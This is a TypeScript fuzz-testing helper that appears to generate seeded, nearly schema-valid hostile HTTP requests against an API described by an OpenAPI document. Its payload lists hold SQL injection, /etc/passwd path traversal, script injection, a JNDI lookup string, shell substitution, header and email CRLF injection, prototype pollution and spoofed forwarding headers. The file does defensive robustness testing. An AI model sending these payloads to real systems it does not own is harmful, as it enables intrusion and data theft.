import { seededUniform } from '../../src/domain/seeded-uniform.ts';

/** A part of a JSON schema that restricts a value. */
interface Schema {
  readonly type?: string;
  readonly enum?: readonly unknown[];
  readonly const?: unknown;
  readonly anyOf?: readonly Schema[];
  readonly oneOf?: readonly Schema[];
  readonly properties?: Readonly<Record<string, Schema>>;
  readonly items?: Schema;
  readonly format?: string;
  readonly minimum?: number;
  readonly maximum?: number;
}

/** One call of the OpenAPI document. */
export interface Operation {
  readonly path: string;
  /** Whether it asks for no token. */
  readonly isOpen: boolean;
  readonly method: string;
  readonly parameters: readonly { readonly name: string; readonly schema: Schema }[];
  /** The body's media type and schema; undefined without a body. */
  readonly body: { readonly type: string; readonly schema: Schema } | undefined;
}

export interface HostileRequest {
  /** The call that it is made from. */
  readonly operation: Operation;
  readonly path: string;
  readonly method: string;
  readonly headers: Readonly<Record<string, string>>;
  readonly body: string | undefined;
}

const TEXTS = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\ud800',
  '\ufffe\uffff',
  '\u202egnp.exe',
  'Z̸̢̛a̷l̶g̵o̴',
  '👩‍👩‍👧‍👦'.repeat(20),
  'ﷺ'.repeat(200),
  'İıſK',
  "' or '1'='1",
  "'; drop table accounts; --",
  '1; select pg_sleep(5)',
  '%25%00%ff',
  '../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '<script>alert(1)</script>',
  '=HYPERLINK("http://x")',
  '\u0024{jndi:ldap://x/y}',
  '{{7*7}}',
  '$(id)',
  'a\r\nSet-Cookie: x=1',
  '__proto__',
  'constructor',
  'toString',
  'null',
  'undefined',
  'true',
  'NaN',
  'Infinity',
  '-0',
  '1e309',
  '-1e309',
  '0x7f',
  '9'.repeat(400),
  '1'.repeat(5_000),
  '9007199254740993',
  '2026-02-30T25:61:61Z',
  '-271821-04-20T00:00:00Z',
  'W10=',
  '[]',
  '{}',
  'a'.repeat(3_000),
  '(a+)+$',
  'a@b.c',
  `${'a'.repeat(64)}@${'b'.repeat(180)}.example`,
  '"quoted"@example.com',
  'x@example.com\r\nBcc: y@example.com',
] as const;

const RAW_VALUES = [
  'null',
  'true',
  '[]',
  '{}',
  '-1',
  '0',
  '1.5',
  '1e99999',
  '-1e400',
  '9007199254740993',
  '[[]]',
  '{"__proto__":{"admin":true}}',
  '{"constructor":{"prototype":{}}}',
  `${'['.repeat(3_000)}${']'.repeat(3_000)}`,
  `${'{"a":'.repeat(800)}1${'}'.repeat(800)}`,
  `[${'1,'.repeat(5_000)}1]`,
] as const;

const HEADERS: readonly (readonly [string, string])[] = [
  ['cookie', 'refresh_token=%ff%fe; known_browser=a.b.c'],
  ['cookie', `refresh_token=${'A'.repeat(3_000)}`],
  ['cookie', 'refresh_token="x; __proto__=1; ;;='],
  ['x-forwarded-for', '::ffff:999.1.1.1, not-an-address'],
  ['x-forwarded-proto', 'javascript'],
  ['x-forwarded-host', 'evil.example'],
  ['origin', 'null'],
  ['origin', 'http://[::'],
  ['sec-fetch-site', 'cross-site'],
  ['last-event-id', '-1'],
  ['last-event-id', `${'9'.repeat(40)}-9`],
  ['accept-encoding', 'br;q=x, *;q=-1'],
  ['if-none-match', '"*", W/"'],
  ['range', 'bytes=0-0,-1'],
  ['user-agent', '\u00ff'.repeat(2_000)],
  ['content-length', '-5'],
  ['x-http-method-override', 'DELETE'],
];

const TYPES = [
  'application/json',
  'application/json; charset=utf-16',
  'text/plain',
  'multipart/form-data; boundary=x',
  'application/octet-stream',
  '',
] as const;

/** The calls of an OpenAPI document. */
export function listOperations(document: Readonly<Record<string, unknown>>): Operation[] {
  const paths = document.paths as Record<string, Record<string, Record<string, unknown>>>;
  return Object.entries(paths).flatMap(([path, methods]) =>
    Object.entries(methods).map(([method, operation]) => {
      const content = (operation.requestBody as { content?: Record<string, { schema: Schema }> } | undefined)
        ?.content;
      const [type, media] = Object.entries(content ?? {})[0] ?? [];
      return {
        path,
        isOpen: (operation.security as unknown[]).length === 0,
        method: method.toUpperCase(),
        parameters: (operation.parameters ?? []) as Operation['parameters'],
        body: type === undefined || !media ? undefined : { type, schema: media.schema },
      };
    }),
  );
}

/** Endless requests that are almost valid by the document, the same ones for the same seed. */
export function* makeHostileRequests(
  operations: readonly Operation[],
  seed: number,
): Generator<HostileRequest, never> {
  const random = seededUniform(seed);
  const below = (most: number) => Math.floor(random() * most);
  const pick = <T>(list: readonly T[]): T => list[below(list.length)] as T;
  const maybe = (share: number) => random() < share;
  const text = () => JSON.stringify(pick(TEXTS));

  /** JSON that the schema allows, most of the time. */
  function jsonOf(schema: Schema, depth = 0): string {
    if (maybe(0.2) || depth > 6) return maybe(0.5) ? text() : pick(RAW_VALUES);
    const choices = schema.anyOf ?? schema.oneOf;
    if (choices) return jsonOf(pick(choices), depth + 1);
    if (schema.const !== undefined) return JSON.stringify(schema.const);
    if (schema.enum) return JSON.stringify(pick(schema.enum));
    if (schema.type === 'object') return objectOf(schema, depth);
    if (schema.type === 'array') {
      return `[${Array.from({ length: below(4) }, () => jsonOf(schema.items ?? {}, depth + 1)).join(',')}]`;
    }
    if (schema.type === 'boolean') return maybe(0.5) ? 'true' : 'false';
    if (schema.type === 'integer' || schema.type === 'number') {
      const { minimum = -1_000, maximum = 1_000 } = schema;
      return String(pick([minimum, maximum, minimum - 1, maximum + 1, Math.floor((minimum + maximum) / 2)]));
    }
    if (schema.format === 'email') return JSON.stringify(`stranger${below(1_000)}@example.com`);
    return text();
  }

  function objectOf({ properties = {} }: Schema, depth: number): string {
    const fields = Object.entries(properties).flatMap(([name, schema]) => {
      if (maybe(0.12)) return [];
      const field = `${JSON.stringify(name)}:${jsonOf(schema, depth + 1)}`;
      return maybe(0.05) ? [field, `${JSON.stringify(name)}:${jsonOf(schema, depth + 1)}`] : [field];
    });
    if (maybe(0.1)) fields.push(`${text()}:${pick(RAW_VALUES)}`);
    return `{${fields.join(',')}}`;
  }

  function queryOf(operation: Operation): string {
    const parts = operation.parameters.flatMap(({ name, schema }) => {
      if (maybe(0.7)) return [];
      const value = maybe(0.5) ? plain(jsonOf(schema, 9)) : plain(jsonOf(schema));
      return maybe(0.08) ? [[name, value] as const, [name, pick(TEXTS)] as const] : [[name, value] as const];
    });
    if (maybe(0.15)) parts.push([pick(TEXTS), pick(TEXTS)]);
    const query = parts.map(([name, value]) => `${encode(name)}=${encode(value)}`).join('&');
    return query.slice(0, 8_000);
  }

  /** Percent-encoded, or not, or wrongly. */
  function encode(value: string): string {
    const wellFormed = encodeURIComponent(value.toWellFormed());
    return maybe(0.95) ? wellFormed : wellFormed.replaceAll('%', '%25');
  }

  function pathOf(path: string): string {
    const filled = path.replace(/\{\w+\}/g, () => encode(pick(TEXTS).slice(0, 200)));
    if (maybe(0.03)) return `${filled}/${encode(pick(TEXTS).slice(0, 100))}`;
    return maybe(0.02) ? filled.replace('/api/', '/api/%2e%2e/') : filled;
  }

  function bodyOf({ type, schema }: NonNullable<Operation['body']>): string {
    if (type !== 'application/json') return pick([...TEXTS, ...RAW_VALUES]);
    const body = jsonOf(schema);
    if (maybe(0.04)) return body.slice(0, -1);
    return maybe(0.01) ? `${body}${' '.repeat(70_000)}` : body;
  }

  /** Calls that are asked before any is asked again: each gets its share of few requests. */
  let left: Operation[] = [];
  for (;;) {
    if (left.length === 0) left = [...operations];
    const operation = left.splice(below(left.length), 1)[0] as Operation;
    const headers: Record<string, string> = {};
    const method = maybe(0.03)
      ? pick(['DELETE', 'PATCH', 'OPTIONS', 'HEAD', 'PUT', 'POST'])
      : operation.method;
    const takesBody = !['GET', 'HEAD'].includes(method);
    const body = takesBody && operation.body && !maybe(0.03) ? bodyOf(operation.body) : undefined;
    if (body !== undefined)
      headers['content-type'] = maybe(0.93) ? (operation.body?.type ?? '') : pick(TYPES);
    if (maybe(0.15)) {
      const [name, value] = pick(HEADERS);
      headers[name] = value;
    }
    const query = queryOf(operation);
    yield {
      operation,
      path: `${pathOf(operation.path)}${query === '' ? '' : `?${query}`}`,
      method,
      headers,
      body,
    };
  }
}

/** The text of a JSON value as a query parameter. */
function plain(json: string): string {
  if (!json.startsWith('"')) return json;
  return JSON.parse(json) as string;
}
